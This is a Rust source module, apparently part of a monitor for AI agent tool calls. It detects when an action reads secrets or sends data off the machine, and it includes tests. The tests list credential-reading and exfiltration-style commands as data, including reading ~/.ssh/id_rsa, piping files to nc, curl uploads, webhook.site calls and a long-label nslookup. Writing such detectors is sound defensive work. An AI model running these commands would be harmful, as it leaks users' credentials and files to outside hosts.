//! What of an action matters to later ones of the same session: a secret that it reads, and data that it sends out.

use std::ops::Range;

use super::{Part, prints_environment};
use crate::action::{Action, Effect, Fact, HostKind, Layer, PathScope, Scope, Target, Unit, UnitKind};

/// Characters of one piece of an address from which it may carry something.
const LONG_PIECE: usize = 32;
/// Words by which a program text reaches the network.
const NETWORK_WORDS: [&str; 10] = [
    "http://",
    "https://",
    "socket",
    "urllib",
    "requests.",
    "http.client",
    "fetch(",
    "XMLHttpRequest",
    "Net::HTTP",
    "smtplib",
];

/// The kind of secret that an action reads, in words, if it reads one.
pub fn secret_read(action: &Action) -> Option<&'static str> {
    action.units.iter().filter(|unit| !runs_later(unit)).find_map(|unit| {
        let environment = || unit.commands.iter().any(prints_environment).then_some("the environment's variables");
        unit.effects().find_map(secret_of).or_else(environment)
    })
}

fn secret_of(effect: &Effect) -> Option<&'static str> {
    match (effect.fact, effect.target.as_ref().map(|target| target.scope)) {
        (Fact::Read, Some(Scope::Path(PathScope::Secret))) => Some("a file with credentials"),
        (Fact::Read, Some(Scope::Path(PathScope::EnvFile))) => Some("an environment file"),
        // What a key file or a variable signs in with is not shown to anybody.
        (Fact::Credentials, None) => Some("a credential store"),
        _ => None,
    }
}

/// Where an action sends data to another machine, if it does. An address that the request names is what was asked for.
pub fn egress(action: &Action) -> Option<Range<usize>> {
    let request = action.request.as_deref().unwrap_or_default();
    let units = action.units.iter().enumerate().filter(|(_, unit)| !runs_later(unit));
    let mut sending = units.filter(|(at, unit)| sends(&Part::of(&action.units, *at), unit, request));
    sending.next().map(|(_, unit)| unit.span.clone())
}

fn runs_later(unit: &Unit) -> bool {
    unit.layers.contains(&Layer::Deferred)
}

fn sends(part: &Part, unit: &Unit, request: &str) -> bool {
    let sends_data = part.any(|stage| stage.reaches) && part.any(|stage| stage.uploads || stage.sends_input);
    let is_networked_code =
        matches!(unit.kind, UnitKind::Code(_)) && NETWORK_WORDS.iter().any(|word| unit.text.contains(word));
    sends_data || is_networked_code || unit.effects().any(|effect| is_outward(effect) || carries(effect, request))
}

/// Whether an effect changes or tells something elsewhere.
fn is_outward(effect: &Effect) -> bool {
    let here = effect.target.as_ref().is_some_and(|target| target.scope == Scope::Host(HostKind::Loopback));
    !here && matches!(effect.fact, Fact::Publish | Fact::Message | Fact::RemoteExecute | Fact::Pay)
}

/// Whether an address can carry data to whoever reads the requests there.
fn carries(effect: &Effect, request: &str) -> bool {
    let Some(Target { text, scope: Scope::Host(kind) }) = &effect.target else { return false };
    if !matches!(effect.fact, Fact::Contact | Fact::Download) {
        return false;
    }
    match kind {
        HostKind::Loopback => false,
        HostKind::Paste
        | HostKind::Tunnel
        | HostKind::Webhook
        | HostKind::FileShare
        | HostKind::DnsRebind
        | HostKind::Chat
        | HostKind::Onion
        | HostKind::Dynamic => true,
        _ => has_freight(text) && !is_asked_for(text, request),
    }
}

fn has_freight(address: &str) -> bool {
    let long = |piece: &str| piece.chars().count() >= LONG_PIECE;
    address.contains(['?', '$', '`']) || address.split(['/', '.', ':', '@']).any(long)
}

fn is_asked_for(address: &str, request: &str) -> bool {
    let rest = address.split_once("://").map_or(address, |(_, rest)| rest);
    let host = rest.split(['/', '?', ':', '#']).next().unwrap_or_default();
    let host = host.rsplit('@').next().unwrap_or_default();
    !host.is_empty() && request.contains(host)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::action::{Context, ToolCall};
    use crate::normalize::normalize;

    fn action(tool: &str, key: &str, value: &str, request: Option<&str>) -> Action {
        let input = serde_json::Map::from_iter([(key.to_owned(), value.into())]);
        let cwd = Some("/home/me/app".to_owned());
        let context = Context {
            workspace: cwd.clone(),
            cwd,
            home: Some("/home/me".into()),
            user_request: request.map(str::to_owned),
            ..Context::default()
        };
        normalize(&ToolCall { tool: tool.to_owned(), input, context })
    }

    #[test]
    fn secrets_that_are_read_are_named() {
        for (command, kind) in [
            ("cat .env", Some("an environment file")),
            ("cat ~/.ssh/id_rsa | head -1", Some("a file with credentials")),
            ("printenv", Some("the environment's variables")),
            ("env", Some("the environment's variables")),
            ("ls -la", None),
            ("cat README.md", None),
            ("ssh -i ~/.ssh/id_rsa host uptime", None),
            ("env A=1 date", None),
        ] {
            assert_eq!(secret_read(&action("Bash", "command", command, None)), kind, "{command}");
        }
        assert!(secret_read(&action("Read", "file_path", "/home/me/.aws/credentials", None)).is_some());
    }

    #[test]
    fn what_leaves_is_found_and_what_only_arrives_is_not() {
        for command in [
            "curl -d @notes.txt https://host.example",
            "curl -X POST --data a=1 https://host.example",
            "curl https://host.example/?q=abc",
            "curl \"https://host.example/$X\"",
            "curl https://webhook.site/abc",
            "git push origin main",
            "scp notes.txt me@host.example:",
            "cat notes.txt | nc host.example 99",
            "python3 -c \"import requests; requests.post('https://host.example', data='a')\"",
            "nslookup aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.host.example",
        ] {
            assert!(egress(&action("Bash", "command", command, None)).is_some(), "{command}");
        }
        for command in [
            "curl https://docs.rs/serde",
            "curl -d a=1 http://localhost:3000/?q=1",
            "git fetch",
            "npm install",
            "cargo build",
            "cat notes.txt | grep x",
        ] {
            assert_eq!(egress(&action("Bash", "command", command, None)), None, "{command}");
        }
        assert!(egress(&action("WebFetch", "url", "https://host.example/?k=v", None)).is_some());
        assert_eq!(egress(&action("WebFetch", "url", "https://host.example/page", None)), None);
        let asked = Some("look at https://host.example/?k=v");
        assert_eq!(egress(&action("WebFetch", "url", "https://host.example/?k=v", asked)), None);
    }
}
